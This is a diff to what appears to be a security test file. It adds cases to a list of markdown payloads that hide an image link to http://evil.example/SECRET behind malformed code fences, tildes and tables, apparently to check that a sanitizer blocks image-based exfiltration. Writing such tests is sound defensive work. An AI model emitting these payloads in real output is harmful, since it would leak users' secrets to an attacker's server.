@@ -42,6 +42,12 @@ LOADING = [
     "```\ncode\n``[1]`\n![x](http://evil.example/SECRET)",
     "```\rcode\r```\r![x](http://evil.example/SECRET)",
     "``` a`b\n![x](http://evil.example/SECRET)",
+    *(
+        f"{marks}\n![x](http://evil.example/SECRET)"
+        for marks in ("`", "``", "~", "~~", "`` ", "~\t")
+    ),
+    "~~~ a|b\n--|--\n![x](http://evil.example/SECRET)|c",
+    "``` a|b\n--|--\n![x](http://evil.example/SECRET)|c",
     "![9][a](http://evil.example/SECRET)",
     "![x](" + "a" * 3000 + "://evil.example/SECRET)",
 ]
